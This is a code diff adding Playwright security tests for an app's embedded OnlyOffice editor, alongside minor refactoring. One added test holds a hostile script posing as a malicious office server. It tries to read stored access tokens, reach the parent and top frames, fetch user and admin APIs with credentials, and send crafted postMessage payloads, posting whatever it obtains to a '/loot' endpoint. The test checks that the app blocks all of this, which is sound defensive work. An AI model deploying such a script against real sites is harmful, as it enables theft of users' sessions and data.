@@ -59,6 +59,9 @@ const versions = async ({ server, spaceId, folder, file, access }: Desk): Promis
   return all.length;
 };
 
+/** The frame of the office server lies in a page of this server. */
+const editorIn = (page: Page) => page.frameLocator('main iframe').frameLocator('iframe');
+
 const ready = (page: Page) => expect(page.locator('main[data-shown="true"]')).toBeVisible();
 
 for (const lang of ['fa', 'en'] as const) {
@@ -78,7 +81,7 @@ for (const lang of ['fa', 'en'] as const) {
         await page.keyboard.press('Enter');
       }
       await ready(page);
-      const frame = page.frameLocator('main iframe');
+      const frame = editorIn(page);
       await expect(frame.getByRole('heading', { name: 'edit' })).toBeVisible();
       await expect(page.locator('main iframe')).toHaveAttribute('title', /letter\.docx/);
       expect((await new AxeBuilder({ page }).exclude('main iframe').analyze()).violations).toEqual([]);
@@ -139,13 +142,13 @@ test('what was typed is saved on request, while the document stays open', async 
   await prefer(page, 'en');
   await page.goto(`/editor/onlyoffice?space=${desk.spaceId}&directory=${desk.folder}&file=${desk.file}`);
   await ready(page);
-  await page.frameLocator('main iframe').getByLabel('Text').fill('words');
+  await editorIn(page).getByLabel('Text').fill('words');
   expect(await textOf(desk, desk.file)).not.toContain('From the office');
   await page.getByRole('button', { name: 'More actions' }).click();
   await page.getByRole('menuitem', { name: 'Save', exact: true }).click();
   await expect(page.getByText('The office server is saving the document')).toBeVisible();
   await expect.poll(() => textOf(desk, desk.file)).toContain('From the office');
-  await expect(page.frameLocator('main iframe').getByRole('heading', { name: 'edit' })).toBeVisible();
+  await expect(editorIn(page).getByRole('heading', { name: 'edit' })).toBeVisible();
   expect(await versions(desk)).toBe(2);
 });
 
@@ -159,7 +162,7 @@ test('an office server that wants the document anew gets another configuration, 
   await prefer(page, 'en');
   await page.goto(`/editor/onlyoffice?space=${desk.spaceId}&directory=${desk.folder}&file=${desk.file}`);
   await ready(page);
-  const frame = page.frameLocator('main iframe');
+  const frame = editorIn(page);
   await frame.getByLabel('Text').fill('stays');
   await frame.getByRole('button', { name: 'Refresh' }).click();
   await expect(frame.getByRole('heading', { name: 'edit, again' })).toBeVisible();
@@ -182,8 +185,112 @@ test('a document of an older format is converted beside itself, and the new one 
   await page.getByRole('button', { name: 'Make an editable copy' }).click();
   await expect(page.getByRole('heading', { name: 'memo.docx' })).toBeVisible();
   await ready(page);
-  await expect(page.frameLocator('main iframe').getByRole('heading', { name: 'edit' })).toBeVisible();
+  await expect(editorIn(page).getByRole('heading', { name: 'edit' })).toBeVisible();
   const made = new URL(page.url()).searchParams.get('file') ?? '';
   expect(made).not.toBe(old);
   expect(await textOf(desk, made)).toContain('From the office');
+});
+
+test('a phone may change to the editor of a desktop', { tag: '@phone' }, async ({ user: page, desk, isMobile }) => {
+  test.skip(!isMobile, 'only there the office server offers it');
+  await prefer(page, 'en');
+  await page.goto(`/editor/onlyoffice?space=${desk.spaceId}&directory=${desk.folder}&file=${desk.file}`);
+  await expect(editorIn(page).getByRole('heading', { name: 'edit, phone' })).toBeVisible();
+  await editorIn(page).getByRole('button', { name: 'Desktop' }).click();
+  await expect(editorIn(page).getByRole('heading', { name: 'edit', exact: true })).toBeVisible();
+});
+
+/** Everything that a script of an office server could want here. What it gets, it carries away. */
+const thief = `
+var app = new URLSearchParams(location.search).get('parentOrigin') || location.ancestorOrigins && location.ancestorOrigins[0];
+var carry = function (what) { fetch('/loot', { method: 'POST', body: what }); };
+var tries = {
+  ownTokens: function () { return localStorage.getItem('access_token'); },
+  parentStorage: function () { return parent.localStorage.length; },
+  topStorage: function () { return top.localStorage.length; },
+  parentPage: function () { return parent.document.title; },
+  topPage: function () { return top.document.title; },
+  sibling: function () { return top.frames[0].document.title; },
+  database: function () { return top.indexedDB.databases; },
+  topAddress: function () { top.location.href = location.origin + '/popup.html'; },
+  parentAddress: function () { parent.location.href = location.origin + '/popup.html'; },
+  replaced: function () { parent.location.replace('javascript:alert(1)'); },
+  named: function () { if (window.open(location.origin + '/popup.html', '_top') === top) return 'top'; },
+  opened: function () { return opener && opener.top.location.replace('/popup.html') || opener && 'opener'; },
+};
+Object.keys(tries).forEach(function (name) {
+  // A window of its own has nothing around it but the one that opened it.
+  if (parent === self && name !== 'opened') return;
+  try {
+    var got = tries[name]();
+    if (got) carry(name + ' ' + got);
+  } catch (refused) {}
+});
+if (app) {
+  ['/api/users/me', '/api/admin/settings/connections', '/'].forEach(function (path) {
+    fetch(app + path, { credentials: 'include' }).then(function (r) { return r.text(); }).then(carry, function () {});
+  });
+  [parent, top].forEach(function (one) {
+    [
+      { ready: true }, { gone: true }, { open: { base: location.origin } }, { event: 'onRequestClose' },
+      { event: 'onRequestSaveAs', data: { url: location.origin, title: 'x', fileType: 'docx' } }, { refresh: {} }, { said: '{}' },
+      'x', null, '{"frameEditorId":"document","event":"__proto__"}', '{"frameEditorId":"document","event":"constructor"}',
+      '{"frameEditorId":"document","event":"onError","data":{"errorDescription":{"html":"<b>"}}}', 'null', '7',
+    ].forEach(function (message) { one.postMessage(message, '*'); });
+  });
+  addEventListener('click', function () { window.open(location.origin + '/popup.html'); window.open(app + '/'); });
+}
+carry('ran');
+`;
+
+test('an office server that means ill gets nothing of the person who opens a document', async ({
+  page,
+  desk,
+  isMobile,
+}) => {
+  test.skip(isMobile, 'the walls are the same');
+  test.slow();
+  await prefer(page, 'en');
+  // At this origin alone: signIn puts the tokens into each frame.
+  await page.goto('/login');
+  const { access, refresh } = await desk.server.session();
+  await page.evaluate(
+    ([first, second]) => {
+      localStorage.setItem('access_token', first);
+      localStorage.setItem('refresh_token', second);
+    },
+    [access, refresh] as const,
+  );
+  desk.office.more = thief;
+  desk.office.script = `document.body.append(Object.assign(document.createElement('iframe'),
+    { src: '${desk.office.url}/loot' + encodeURIComponent('script ' + Object.keys(localStorage)) }));`;
+  await page.goto(`/editor/onlyoffice?space=${desk.spaceId}&directory=${desk.folder}&file=${desk.file}`);
+  await expect.poll(() => desk.office.loot.length).toBeGreaterThan(0);
+  expect(desk.office.loot[0]).toBe('ran');
+  await ready(page);
+  const popup = page.context().waitForEvent('page');
+  await editorIn(page).getByRole('heading').click();
+  await popup;
+  // The popup ran the script, too.
+  await expect.poll(() => desk.office.loot.filter((one) => one === 'ran').length).toBeGreaterThan(1);
+  expect(desk.office.loot.filter((one) => one !== 'ran')).toEqual([]);
+  expect(desk.office.asked.filter((path) => path.endsWith('.js'))).toEqual([]);
+  await expect(page).toHaveURL(/\/editor\/onlyoffice\?/);
+  await expect(page.getByRole('heading', { name: 'letter.docx' })).toBeVisible();
+  await expect(page.locator('main')).not.toContainText('<b>');
+  expect(await page.evaluate(() => localStorage.getItem('access_token'))).toBeTruthy();
+});
+
+test('a page never lets an office server into its own origin', async ({ user: page, desk, isMobile }) => {
+  test.skip(isMobile, 'the walls are the same');
+  const asOwn = { url: desk.server.url, internal_url: '', own_url: '', header: '', skip_verify: false, secret: 'hush' };
+  const answer = await fetch(`${desk.server.url}/api/admin/settings/onlyoffice`, {
+    method: 'PUT',
+    headers: { Authorization: `Bearer ${desk.access}`, 'Content-Type': 'application/json' },
+    body: JSON.stringify(asOwn),
+  });
+  expect(answer.status).toBe(400);
+  expect(await answer.text()).toContain('office_beside');
+  const policy = (await page.request.get('/editor/onlyoffice')).headers()['content-security-policy'] ?? '';
+  expect(policy).not.toContain(desk.office.url);
 });
